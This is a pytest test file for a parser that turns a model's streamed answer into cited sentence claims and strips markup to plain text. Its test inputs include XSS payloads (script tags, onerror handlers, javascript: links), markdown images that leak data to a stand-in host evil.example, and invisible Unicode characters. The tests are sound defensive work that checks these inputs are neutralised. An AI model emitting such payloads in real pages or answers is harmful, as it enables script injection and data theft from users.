"""Sentences, citations and nothing but plain text come out of a model's words."""

from __future__ import annotations

from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.claims import MAX_CHARS, Claim, claims_of, plain
from rag.completions import Limits
from rag.spoken import CHARS_PER_TOKEN

SAID = (
    "<think>The passages say 264. Or 39?</think>In total 264 people came [1]. Mayor Dr. Hřib of the U.S. spoke.[2][3] "
    "It rose by 3.5 percent! [1, 3]\n- **Tartu** won [2-4]\nSee [the page](https://evil.example/?q=264) [5]. The end"
)
CLAIMS = [
    Claim("In total 264 people came.", (1,)),
    Claim("Mayor Dr. Hřib of the U.S. spoke.", (2, 3)),
    Claim("It rose by 3.5 percent!", (1, 3)),
    Claim("Tartu won", (2, 3, 4)),
    Claim("See the page.", (5,)),
    Claim("The end", ()),
]


@given(st.integers(1, 60))
def test_sentences_do_not_depend_on_how_the_words_come(size: int) -> None:
    assert list(claims_of(SAID[i : i + size] for i in range(0, len(SAID), size))) == CLAIMS


def test_a_sentence_is_given_as_soon_as_the_next_has_begun() -> None:
    words = iter(["One is so. [1] ", "Two ", "is so [2]."])
    assert next(claims_of(words)) == Claim("One is so.", (1,))
    assert next(words) == "is so [2]."


def test_a_sentence_with_its_marker_before_the_stop_waits_for_nothing() -> None:
    words = iter(["One is so ", "[1].", " Two is so [2]."])
    assert next(claims_of(words)) == Claim("One is so.", (1,))
    assert next(words) == " Two is so [2]."


def test_a_marker_at_the_very_beginning_joins_no_sentences() -> None:
    assert [claim.text for claim in claims_of(["[1] One is so. Two is so [2]. Three."])] == [
        "One is so.",
        "Two is so.",
        "Three.",
    ]


def test_a_thought_is_no_sentence_however_it_ends() -> None:
    assert list(claims_of(["<think>It is so [1].", " No.</think>", "It is not so [2]."])) == [
        Claim("It is not so.", (2,))
    ]


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("<b>264</b>, of <a href='x'>Prague</a>", "264, of Prague"),
        ("one<br/>two", "one two"),
        ("a<b and c>d", "a\uff1cb and c>d"),
        ("2*3*4 and [x](javascript:alert(1)) of 共有**264**人", "2*3*4 and x of 共有264人"),
        ("a<b, and all that follows", "a\uff1cb, and all that follows"),
        ("<<b>script>alert(1)<</b>/script>", " alert(1) "),
        ("<script>alert(1)</script>", " alert(1) "),
        ("<img src=x onerror=alert(1) ", " "),
        ("![x](https://evil.example/?q=secret) came", "  came"),
        ("![x][ref] came", "  came"),
        ("[people](javascript:alert(1)", "people"),
        ("# Title\n> said **so** and `so`", "Title\nsaid so and so"),
        ("a \u202eb\u200b\U000e0041c\x1b[31m", "a bc[31m"),
        ("3 < 4 and 5 > 2, x_1 * y", "3 < 4 and 5 > 2, x_1 * y"),
    ],
)
def test_markup_becomes_plain_text(written: str, left: str) -> None:
    assert plain(written) == left


@given(st.text(alphabet="ab .![]()<>*_`#\n-1https:/\u200b", max_size=60))
def test_no_image_and_no_link_is_left(text: str) -> None:
    left = plain(f"![{text}](x)")
    assert "![" not in left
    assert "](" not in left


@pytest.mark.parametrize(
    "unit", ["[a", "[", "![", "![a](", "[1,", ".[1]", "`", "*a", "_", " ", "\n", "a. ", "<a", "(", "1. "]
)
def test_a_hostile_answer_of_the_greatest_size_is_cut_quickly(unit: str) -> None:
    size = CHARS_PER_TOKEN * Limits().max_tokens
    said = (unit * size)[:size]
    started = perf_counter()
    assert all(len(claim.text) <= MAX_CHARS for claim in claims_of([said]))
    assert all(len(claim.text) <= MAX_CHARS for claim in claims_of(said[i : i + 7] for i in range(0, size, 7)))
    plain(said)
    assert perf_counter() - started < 2  # far above what it takes; with patterns that look ahead it took minutes
